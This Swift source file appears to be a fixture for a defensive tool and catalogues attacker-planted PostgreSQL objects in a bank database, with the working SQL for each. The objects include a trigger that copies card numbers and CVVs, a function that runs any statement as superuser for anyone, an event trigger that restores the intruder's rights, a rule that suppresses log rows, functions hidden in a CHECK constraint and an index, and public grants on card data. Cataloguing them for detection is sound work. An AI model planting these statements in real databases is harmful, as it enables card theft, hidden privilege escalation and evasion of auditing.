internal import Postgres

/// What the attacker leaves in the legacy database. Each does harm if it is ever restored and run, and none if it is left behind.
enum TrojanStore {
    struct Planted: Sendable {
        let kind: String
        let object: String
        let purpose: String
        let statements: [String]
    }

    static let intruder = Attack.intruderLogin

    static let all: [Planted] = [
        Planted(
            kind: "TABLE", object: "stats_cache", purpose: "collects stolen card numbers",
            statements: ["create table public.stats_cache (k text, v text, quand timestamp default now())"]),
        Planted(
            kind: "FUNCTION", object: "maj_carte()", purpose: "copies each card number it sees",
            statements: [
                """
                create function public.maj_carte() returns trigger language plpgsql security definer as $$
                begin
                    insert into public.stats_cache (k, v) values (new.pan, new.cvv);
                    return new;
                end $$
                """
            ]),
        Planted(
            kind: "TRIGGER", object: "cartes trg_maj_carte", purpose: "calls maj_carte at each change of a card",
            statements: [
                """
                create trigger trg_maj_carte after insert or update on public.cartes
                for each row execute function public.maj_carte()
                """
            ]),
        Planted(
            kind: "FUNCTION", object: "f_support(text)", purpose: "runs any statement as superuser, for anybody",
            statements: [
                """
                create function public.f_support(t text) returns void language plpgsql security definer as $$
                begin execute t; end $$
                """,
                "grant execute on function public.f_support(text) to public",
            ]),
        Planted(
            kind: "FUNCTION", object: "garder_acces()", purpose: "gives the intruder his rights back after each change",
            statements: [
                """
                create function public.garder_acces() returns event_trigger language plpgsql security definer as $$
                begin
                    execute 'grant all on all tables in schema public to \(intruder)';
                exception when others then null;
                end $$
                """
            ]),
        Planted(
            kind: "RULE", object: "logs silence", purpose: "drops log rows about the intruder",
            statements: [
                """
                create rule silence as on insert to public.logs
                where new.utilisateur = '\(intruder)' do instead nothing
                """
            ]),
        Planted(
            kind: "VIEW", object: "v_comptes_clients",
            purpose: "the bank's own view, changed to show IBAN, e-mail and password",
            statements: [
                """
                create or replace view public.v_comptes_clients as
                select c.id as client_id, c.nom, c.prenom, a.id as compte_id, a.type, a.solde,
                    a.iban, c.email, c.mot_de_passe
                from public.clients c join public.comptes a on a.client_id = c.id
                """
            ]),
        Planted(
            kind: "FUNCTION", object: "statut_connu(text)", purpose: "runs inside a CHECK while rows are loaded",
            statements: [
                """
                create function public.statut_connu(s text) returns boolean language plpgsql as $$
                begin
                    perform set_config('application_name', 'verifie', false);
                    begin execute 'alter role \(intruder) superuser'; exception when others then null; end;
                    return true;
                end $$
                """
            ]),
        Planted(
            kind: "CHECK CONSTRAINT", object: "comptes comptes_statut_connu",
            purpose: "calls statut_connu for each account",
            statements: [
                """
                alter table public.comptes add constraint comptes_statut_connu
                check (public.statut_connu(statut)) not valid
                """
            ]),
        Planted(
            kind: "FUNCTION", object: "noter(text)", purpose: "writes what it is given into the loot",
            statements: [
                """
                create function public.noter(t text) returns void language sql security definer as $$
                    insert into public.stats_cache (k, v) values ('tri', t)
                $$
                """
            ]),
        Planted(
            kind: "FUNCTION", object: "cle_tri(text)", purpose: "runs inside an index while it is built",
            statements: [
                """
                create function public.cle_tri(t text) returns text language plpgsql immutable as $$
                begin
                    perform public.noter(t);
                    return lower(t);
                end $$
                """
            ]),
        Planted(
            kind: "INDEX", object: "clients_tri", purpose: "calls cle_tri for each client",
            statements: ["create index clients_tri on public.clients (public.cle_tri(email))"]),
        Planted(
            kind: "DEFAULT", object: "employes mot_de_passe",
            purpose: "new staff get a password that the intruder knows",
            statements: ["alter table public.employes alter column mot_de_passe set default md5('maintenance')"]),
        Planted(
            kind: "ACL", object: "TABLE clients", purpose: "everybody may read clients",
            statements: ["grant select on public.clients to public"]),
        Planted(
            kind: "ACL", object: "TABLE cartes", purpose: "everybody may read cards",
            statements: ["grant select on public.cartes to public"]),
        Planted(
            kind: "ACL", object: "TABLE transactions", purpose: "an extra login role with all rights",
            statements: ["grant all on public.transactions, public.employes to \(intruder)"]),
        Planted(
            kind: "EVENT TRIGGER", object: "evt_garder_acces",
            purpose: "fires garder_acces at each change of the schema",
            statements: [
                """
                create event trigger evt_garder_acces on ddl_command_end
                execute function public.garder_acces()
                """
            ]),
    ]

    static func statements(of trojan: Planted) -> [Statement] { trojan.statements.map { Statement(unchecked: $0) } }

    /// The index trojan builds itself over all clients: what it collected then is not part of the bank.
    static let clearLoot: Statement = "truncate public.stats_cache"
}
